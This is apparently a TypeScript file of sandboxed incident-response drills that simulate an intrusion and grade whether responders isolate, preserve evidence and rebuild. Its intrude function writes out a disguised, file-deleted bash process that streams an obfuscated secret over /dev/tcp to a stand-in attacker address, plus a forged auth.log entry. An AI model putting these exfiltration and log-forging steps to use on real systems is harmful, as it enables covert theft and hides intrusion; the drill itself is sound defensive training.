import type { Drill, Ran, Readings } from '../engine/drill';
import type { Host } from '../sandbox/host';
import type { World } from '../sandbox/world';

/** A host with an intruder on it, and the one that it was to be replaced by. */
interface Intruded {
  readonly victim: Host;
  readonly fresh: Host;
  readonly responder: Host;
  readonly attacker: Host;
  /** Of the intruder's program, before it was deleted. */
  readonly sum: string;
  pid: string;
}

type SecurityDrill = Drill<Intruded, World>;

const SECRET = 'the-key-that-is-in-memory-only';

/** Copies a shell to where nobody looks, starts it with a secret in its memory, and deletes its file. */
async function intrude({ victim }: Intruded): Promise<string> {
  await victim.must(`mkdir -p /dev/shm/.cache /srv/web && cp /bin/bash /dev/shm/.cache/kworker
    echo 'curl evil' > /dev/shm/.cache/notes; echo "Accepted publickey for root" >> /var/log/auth.log`);
  await victim.start(
    // Its command line and its file do not show the key: rotated by 13 letters there, and as it is in memory.
    `/dev/shm/.cache/kworker -c 'key=$(echo gur-xrl-gung-vf-va-zrzbel-bayl | tr a-z n-za-m); ` +
      `exec 5<>/dev/tcp/192.0.2.66/4444; while :; do echo "$key" >&5; read -t 0.5 -u 5 x || :; done'`,
  );
  await victim.until('ss -tn | grep -q 192.0.2.66:4444', 'it is connected');
  const pid = (await victim.must('pgrep -o kworker')).trim();
  await victim.must('rm /dev/shm/.cache/kworker');
  return pid;
}

/** Whether anything leaves to the attacker, and whether the program is alive: measured at both ends. */
async function isCut({ victim, attacker, responder, pid }: Intruded): Promise<string> {
  const size = async (): Promise<number> => Number(await attacker.must('wc -c < /tmp/stolen'));
  const before = await size();
  await attacker.must('sleep 2');
  const grown = (await size()) - before;
  if (grown > 0) throw new Error(`${grown} bytes left in two seconds`);
  const { exitCode } = await responder.run('curl -s -o /dev/null -m 3 http://192.0.2.70/');
  if (exitCode !== 0) throw new Error('The rebuilt host does not serve.');
  const state = (await victim.run(`grep State /proc/${pid}/status`)).output.trim();
  return `nothing leaves any more, and the rebuilt host serves; the program: ${state}`;
}

async function evidenceIsKept({ victim, sum, pid }: Intruded): Promise<void> {
  const files = await victim.must(`cd /mnt/evidence && sha256sum exe.bin && grep -c 192.0.2.66 connections.txt &&
    grep -ac ${SECRET} memory.${pid} && tar -tf files.tar && tar -tf logs.tar && sha256sum -c --quiet SHA256SUMS && echo sealed`);
  for (const part of [sum, 'notes', 'auth.log', 'sealed'])
    if (!files.includes(part)) throw new Error(`The evidence lacks ${part}: ${files}`);
}

const prints =
  (...patterns: readonly RegExp[]) =>
  ({ output }: Ran): boolean =>
    patterns.every((pattern) => pattern.test(output));
const suspicious = prints(/\(deleted\)/);

const readings: Readonly<Record<string, Readings<Intruded>>> = {
  'look-at-process': {
    'live-harm': { seen: 'a deleted program that is connected', holds: suspicious },
    'false-alarm': {
      seen: 'a program at its place',
      holds: (ran) => !suspicious(ran) && prints(/exe -> \/usr\/bin\//)(ran),
    },
  },
  'live-harm': {
    isolate: { seen: 'data that leaves', holds: (_, net) => leaves(net) },
    // Two outcomes lead there.
    'save-volatile': { seen: 'none', holds: async (_, net) => !(await leaves(net)) },
  },
  isolate: { onward: { seen: 'the table', holds: prints(/table inet incident_isolate/, /policy drop/) } },
  'save-volatile': {
    onward: {
      seen: 'all files, and a program',
      holds: prints(/ [1-9]\d{3,} .* exe\.bin/, /connections\.txt/, /environ\.txt/),
    },
  },
  'save-memory': {
    'stop-process': {
      seen: 'a dump; it does harm',
      holds: async (ran, net) => isDumped(ran) && (await isConnected(net)),
    },
    'save-logs-disk': {
      seen: 'a dump; it does none',
      holds: async (ran, net) => isDumped(ran) && !(await isConnected(net)),
    },
  },
  'stop-process': { onward: { seen: 'T', holds: prints(/State:\s+T \(stopped\)/) } },
  'save-logs-disk': {
    onward: {
      seen: 'two archives and a sum',
      holds: prints(/ [1-9]\d{3,} .* logs\.tar/, / [1-9]\d{3,} .* files\.tar/, /^[0-9a-f]{64} {2}SHA256SUMS$/m),
    },
  },
  scope: {
    rotate: { seen: 'no other host', holds: () => true },
    isolate: { seen: 'another host', holds: () => false },
  },
  'compare-known-good': {
    onward: { seen: 'as the manifest says', holds: prints(/^as the manifest says$/m, /^dpkg checked$/m) },
  },
  settle: {
    notify: { seen: 'it settled', holds: ({ settled }) => settled === true },
    isolate: { seen: 'it did not settle', holds: ({ settled }) => settled === false },
  },
};

const isDumped = prints(/memory\.\d+/, /State:\s+[RST] /);
const isConnected = async ({ victim }: Intruded): Promise<boolean> =>
  (await victim.run('ss -tn | grep -q 192.0.2.66:4444')).exitCode === 0;
async function leaves({ attacker }: Intruded): Promise<boolean> {
  const [before, after] = (await attacker.must('wc -c < /tmp/stolen; sleep 2; wc -c < /tmp/stolen')).trim().split('\n');
  return before !== after;
}

const isServed = async ({ responder, victim, attacker }: Intruded): Promise<string> => {
  const { exitCode } = await responder.run('curl -s -o /dev/null -m 3 http://192.0.2.60/');
  if (exitCode !== 0) throw new Error('The host does not serve.');
  if ((await victim.run('ss -tn | grep -q 192.0.2.66')).exitCode === 0) throw new Error('It talks to the attacker.');
  return `it serves, and does not talk to ${attacker.address}`;
};

const serve = (host: Host): Promise<void> =>
  host.start(`${process.execPath} -e 'require("node:http").createServer((q, r) => r.end("well")).listen(80)'`);

const security = {
  runbook: 'security-incident',
  packages: ['curl', 'coreutils', 'gdb', 'iproute2', 'nftables', 'procps', 'socat', 'tar'],
  parameters: {
    pid: '1',
    suspicious_path: '/dev/shm/.cache',
    responder: '192.0.2.10',
    manifest: '/root/manifest',
    attacker: '192.0.2.66',
  },
  build: async (world) => {
    const [victim, fresh, responder, attacker] = await Promise.all([
      world.host('victim', '192.0.2.60'),
      world.host('fresh', '192.0.2.70'),
      world.host('responder', '192.0.2.10'),
      world.host('attacker', '192.0.2.66'),
    ]);
    await serve(victim);
    await attacker.start('socat -u TCP-LISTEN:4444,fork,reuseaddr OPEN:/tmp/stolen,creat,append');
    await attacker.must(': > /tmp/stolen');
    await victim.until('curl -s -o /dev/null http://192.0.2.60/', 'it serves');
    const sum = (await victim.must('sha256sum < /bin/bash')).slice(0, 64);
    return { victim, fresh, responder, attacker, sum, pid: '' };
  },
  works: isServed,
  symptoms: [
    {
      says: 'CPU is busy with a process that runs from /tmp, /dev/shm or a deleted file',
      shows: '/dev/shm/.cache/kworker (deleted)',
      probe: ({ victim, pid }) => victim.must(`readlink /proc/${pid}/exe`),
    },
    {
      says: 'Connections go out to an address that nobody knows',
      shows: '192.0.2.66:4444',
      probe: ({ victim }) => victim.must('ss -tn'),
    },
  ],
  readings,
  places: ({ victim, fresh }) => ({ first: victim, 'compare-known-good': fresh, settle: fresh }),
  recovered: isCut,
  state: ({ victim, pid }) => victim.must(`nft list tables; grep -c . /proc/${pid}/maps > /dev/null && echo alive`),
} satisfies Partial<SecurityDrill>;

const enterPid = (net: Intruded): Promise<Record<string, string>> => Promise.resolve({ pid: net.pid });
const rebuild = async ({ fresh }: Intruded): Promise<void> => {
  await serve(fresh);
  // Of this machine's packages, those of a small image: dpkg would read all files of all the others.
  await fresh.must(`sha256sum /bin/bash /usr/bin/curl > /root/manifest
    cd /var/lib/dpkg/info; find . -name '*.md5sums' ! -name 'bash.*' ! -name 'curl.*' ! -name 'procps.*' -delete`);
};

/** What is usually done first: the process is killed. On a second intruder, whose evidence is then gone. */
async function killFirst(net: Intruded): Promise<string> {
  const { victim } = net;
  await victim.must('cp /bin/sleep /dev/shm/worker');
  await victim.start('/dev/shm/worker 1000');
  await victim.until('pgrep -x worker', 'it runs');
  const pid = (await victim.must('pgrep -x worker')).trim();
  await victim.must(`rm /dev/shm/worker; test -r /proc/${pid}/exe; kill -9 ${pid}; sleep 0.5`);
  const { exitCode } = await victim.run(`cp /proc/${pid}/exe /tmp/exe.bin`);
  if (exitCode === 0) throw new Error('The program can still be saved after the kill.');
  return 'a process that is killed first leaves no program and no memory to look at';
}

const theWay = ['private-channel', 'declare', 'look-at-process', 'live-harm'];
const theEnd = ['save-logs-disk', 'scope', 'rotate', 'rebuild', 'compare-known-good', 'settle', 'notify', 'learn'];

const liveHarm: SecurityDrill = {
  ...security,
  name: 'security-live-harm',
  title: 'A deleted program sends a secret out: it is cut off, and kept before anything is rebuilt',
  break: async (net) => {
    net.pid = await intrude(net);
  },
  trap: killFirst,
  acts: {
    declare: enterPid,
    // The rule drops its packets; the connection stands, and it would send as soon as it could.
    rebuild: async (net) => {
      await evidenceIsKept(net);
      await rebuild(net);
    },
  },
  way: [...theWay, 'isolate', 'save-volatile', 'save-memory', 'stop-process', ...theEnd],
};

const falseAlarm: SecurityDrill = {
  ...security,
  name: 'security-false-alarm',
  title: 'A process that nobody knew is ours',
  acts: { declare: async ({ victim }) => ({ pid: (await victim.must('pgrep -o node')).trim() }) },
  recovered: isServed,
  // Nobody was there, so that nothing is broken.
  symptoms: [],
  state: () => Promise.resolve(''),
  brokenAgain: false,
  way: ['private-channel', 'declare', 'look-at-process', 'false-alarm', 'learn'],
};

export const securityDrills = [liveHarm, falseAlarm];
